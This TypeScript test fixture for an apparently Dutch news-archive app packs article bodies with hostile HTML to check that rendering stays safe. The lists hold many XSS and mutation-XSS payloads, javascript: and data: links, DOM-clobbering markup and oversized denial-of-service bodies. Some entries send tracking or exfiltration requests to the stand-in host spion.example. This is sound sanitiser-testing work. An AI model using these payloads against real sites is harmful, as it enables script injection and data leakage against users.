import { post } from '../archives.ts';
import { zipOf } from '../bundle/zip-fixture.ts';
import type { Hostile } from './hostile.ts';

/** What every body calls or asks for when it gets its way. */
const RUN = 'globalThis.hacked=(globalThis.hacked||0)+1';
const SPY = 'https://spion.example/pixel';

/** Scripts, and all that runs one. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="${SPY}.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  `<script/x>${RUN}</script\n>`,
  `<script><!--<script>${RUN}</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><script>${RUN}</script><img src="${SPY}"></template>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN} onload=${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x"onerror="${RUN}">`,
  `<img \x0bsrc=x onerror=${RUN}>`,
  `<p onmouseover="${RUN}" onclick="${RUN}" style="position:fixed;inset:0">alles</p>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div contenteditable onbeforeinput="${RUN}" autofocus onfocus="${RUN}">x</div>`,
  `<xss onanimationstart="${RUN}" style="animation:x 1s"><style>@keyframes x{}</style></xss>`,
];

/** What parsers read differently, and what changes when it is written and read again. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>klik</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/><image href="${SPY}"/></svg>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!>`,
  `<?xml version="1.0"?><?php echo '<img src=x onerror=${RUN}>' ?>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<table><tr><td><select><iframe></select><img src=x onerror=${RUN}></table>`,
  `<a href="x" id="<img src=x onerror=${RUN}>">x</a>`,
  `<p>&lt;img src=x onerror=${RUN}&gt;</p>`,
  `<p id="&quot;><img src=x onerror=${RUN}>">x</p>`,
  `<img alt="\`><img src=x onerror=${RUN}>\`">`,
];

/** Addresses that run something, and what asks for something elsewhere. */
const ADDRESSES = [
  `<a href="javascript:${RUN}">klik</a>`,
  `<a href=" &#1;javascript&colon;${RUN}">klik</a>`,
  `<a href="java\tscript:${RUN}">klik</a>`,
  `<a href="JaVaScRiPt:${RUN}">klik</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">klik</a>`,
  `<a href="vbscript:x">klik</a><a href="blob:https://a.nl/x">klik</a><a href="file:///etc/passwd">klik</a>`,
  `<a href="//spion.example/x">klik</a><a href="/archive.html?article=x">klik</a><a href="#x">klik</a>`,
  `<a href="https://nos.nl/l/1" ping="${SPY}" target="_self" rel="opener">klik</a>`,
  '<a href="chrome-extension://x/options.html">klik</a><a href="moz-extension://x/">klik</a>',
  `<img src="${SPY}" width="1" height="1">`,
  `<img src="http://feeds.feedburner.com/~r/nosnieuws/~4/x" height="1" width="1"/>`,
  `<img srcset="${SPY} 2x" sizes="100vw" src="data:image/gif;base64,x">`,
  `<picture><source srcset="${SPY}"><img alt="Foto" src="${SPY}"></picture>`,
  `<p style="background:url(${SPY})">x</p>`,
  `<style>@import "${SPY}.css"; body { background: url(${SPY}) } input[value^=a] { background: url(${SPY}) }</style>`,
  `<link rel="stylesheet" href="${SPY}.css"><link rel="prefetch" href="${SPY}"><link rel="dns-prefetch" href="//spion.example">`,
  `<meta http-equiv="refresh" content="0;url=${SPY}"><meta http-equiv="Set-Cookie" content="a=b">`,
  `<base href="${SPY}"><a href="x">klik</a>`,
  `<iframe src="${SPY}"></iframe><iframe src="javascript:${RUN}"></iframe><frame src="${SPY}"><frameset onload="${RUN}">`,
  `<object data="${SPY}"></object><embed src="${SPY}"><applet code="x"></applet>`,
  `<video src="${SPY}" poster="${SPY}" autoplay></video><audio src="${SPY}" autoplay></audio><track src="${SPY}">`,
  `<form action="${SPY}" method="post"><input name="a" value="b"><button formaction="javascript:${RUN}">Verder</button></form>`,
  `<input type="image" src="${SPY}"><body background="${SPY}"><table background="${SPY}"><tr><td background="${SPY}">x</table>`,
  `<portal src="${SPY}"></portal><fencedframe></fencedframe><isindex action="javascript:${RUN}">`,
  `<blockquote cite="${SPY}">x</blockquote><q cite="javascript:${RUN}">x</q><del cite="${SPY}">x</del>`,
];

/** Names that shadow what a page's own code uses, and words of the archive's own interface. */
const CLOBBERING = [
  '<form id="document"><input name="getElementById"></form><img name="body" alt="x">',
  '<a id="archive"></a><a id="archive" name="chrome" href="https://nos.nl/l/1">x</a>',
  '<form><input name="attributes"><input name="nodeName"><input name="parentNode"></form>',
  '<main data-state="ready" data-part="article" class="body" id="root">Nagemaakt</main>',
  '<dialog open>Verander je wachtwoord</dialog><div popover id="p">x</div><slot name="x"></slot>',
];

const MANY = 1_000_000;
/** Bodies of too much. They come in, or are too large; a page cuts what it shows or shows it slowly, but lives. */
const ENDLESS: [what: string, body: string][] = [
  ['1,000,000 tags', '<b>'.repeat(MANY)],
  ['1,000,000 ends of tags', '</p>'.repeat(MANY)],
  ['500,000 tags beside each other', '<i></i>'.repeat(MANY / 2)],
  ['300,000 svg inside each other', '<svg>'.repeat(MANY / 3.4)],
  ['1,000,000 entities', '&amp'.repeat(MANY)],
  ['100,000 attributes', `<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}=1`).join(' ')}>x</p>`],
  ['a comment without end', `<!--${'-'.repeat(3_000_000)}`],
  ['tags without end', '<a '.repeat(MANY)],
  ['a word of 3 MB', 'x'.repeat(3_000_000)],
  ['1,000,000 marks on one letter', `e${'\u0301'.repeat(MANY)}`],
  ['3 MB of spaces', `x${' '.repeat(3_000_000)}y`],
  ['3 MB of digits and points', '1.'.repeat(1_500_000)],
  ['300,000 different words', Array.from({ length: 300_000 }, (_, i) => `w${i.toString(36)}`).join(' ')],
];

/** Bodies that try to run or to ask for something when they are shown. */
export const BODIES: readonly string[] = [...SCRIPTS, ...MUTATIONS, ...ADDRESSES, ...CLOBBERING];

const GOOD = { name: 'krant-master/_posts/goed.md', data: post('Goed bericht') };

/** The key of the article that a body stands in, in the bundle of them all. */
export const keyOfBody = (i: number): string => `nos:${7_000_000 + i}`;

/** One bundle of all bodies that try something. */
export const bundleOfBodies = (): Uint8Array<ArrayBuffer> =>
  zipOf(
    BODIES.map((body, i) => ({
      name: `krant-master/_posts/kwaad-${i}.md`,
      data: post(`Kwaad ${i}`, { link: `https://nos.nl/l/${7_000_000 + i}`, body: `<p>Eerst.</p>${body}<p>Laatst.</p>` }),
    })),
  );

export const hostileBodies = (): Hostile[] =>
  [...BODIES.map((body): [string, string] => [body.slice(0, 60), body]), ...ENDLESS].map(([what, body]) => ({
    what: `a body with ${what}`,
    file: zipOf([{ name: 'krant-master/_posts/kwaad.md', data: post('Kwaad', { body }) }, GOOD]),
    good: true,
    reason: null,
  }));
